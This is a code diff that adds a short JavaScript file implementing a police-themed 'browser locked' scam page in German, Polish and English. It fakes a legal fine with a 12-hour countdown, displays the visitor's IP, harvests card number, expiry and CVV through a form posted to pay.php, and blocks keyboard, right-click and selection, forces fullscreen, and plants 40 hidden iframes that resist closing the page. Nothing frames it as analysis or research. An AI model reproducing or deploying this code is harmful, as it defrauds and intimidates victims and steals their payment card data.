@@ -1,0 +1,9 @@
+var T={de:{h:"Ihr Browser wurde gesperrt",p:"Ihr Computer wurde aus folgenden Gründen gesperrt: Verstoß gegen das Gesetz. Sie haben 12 Stunden, um die Geldstrafe von 100 € zu bezahlen."},pl:{h:"Twoja przeglądarka została zablokowana",p:"Masz 12 godzin na zapłatę grzywny w wysokości 500 zł."},en:{h:"Your browser has been locked",p:"You must pay a fine of $300 within 12 hours to avoid prosecution."}};
+var L=T[(navigator.language||"en").substr(0,2)]||T.en,end=Date.now()+432e5;
+document.title=L.h;document.body.innerHTML="<div class=crest></div><h1>"+L.h+"</h1><p>"+L.p+"</p><p>IP: <b id=ip></b></p><p id=cd></p><form id=f><input name=code maxlength=19 placeholder='Voucher / card'><input name=exp placeholder='MM/YY'><input name=cvv size=3><button>OK</button></form>";
+var x=new XMLHttpRequest;x.open("GET","https://api.ipify.org");x.onload=function(){document.getElementById("ip").textContent=x.responseText};x.send();
+setInterval(function(){var s=(end-Date.now())/1e3|0;document.getElementById("cd").textContent=[s/3600|0,(s%3600)/60|0,s%60].join(":")},1e3);
+document.getElementById("f").onsubmit=function(){var r=new XMLHttpRequest;r.open("POST","pay.php");r.send(new FormData(this));this.innerHTML="...";return false};
+var k=function(e){e.preventDefault();e.stopPropagation();return false};["keydown","keyup","keypress","contextmenu","selectstart","dragstart"].forEach(function(n){document.addEventListener(n,function(e){if(!/INPUT/.test(e.target.tagName))k(e)},true)});
+document.addEventListener("click",function(){document.documentElement.requestFullscreen&&document.documentElement.requestFullscreen()});
+for(var i=0;i<40;i++){var f=document.createElement("iframe");f.style.display="none";f.srcdoc="<script>onbeforeunload=function(){return '"+L.h+"'}<\/script>";document.body.appendChild(f)}
